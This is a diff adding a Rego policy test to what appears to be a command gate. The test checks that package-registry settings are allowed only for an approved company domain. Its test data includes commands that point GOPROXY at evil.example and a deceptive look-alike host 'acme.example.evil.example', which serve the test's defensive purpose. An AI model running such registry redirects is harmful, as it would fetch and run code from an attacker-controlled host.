@@ -76,3 +76,24 @@ test_passes if {
 		count(inject.ask) == 0 with input as gate.event(call)
 	}
 }
+
+test_passes_the_companys_registry if {
+	every line in [
+		"npm config set registry https://npm.acme.example/",
+		"export PIP_INDEX_URL=https://pypi.acme.example/simple",
+		"GOPROXY=https://go.acme.example,direct go build ./...",
+	] {
+		count(inject.ask) + count(inject.deny) == 0 with input as gate.event(line)
+			with data.gate.params.gate.remote_code.run.registries as ["acme.example"]
+		count(inject.ask) > 0 with input as gate.event(line)
+	}
+	every line in [
+		"npm config set registry http://npm.acme.example/",
+		"GOPROXY=https://go.acme.example,https://evil.example go build ./...",
+		"export PIP_INDEX_URL=https://acme.example.evil.example/simple",
+		"npm config set proxy https://npm.acme.example/",
+	] {
+		count(inject.ask) > 0 with input as gate.event(line)
+			with data.gate.params.gate.remote_code.run.registries as ["acme.example"]
+	}
+}
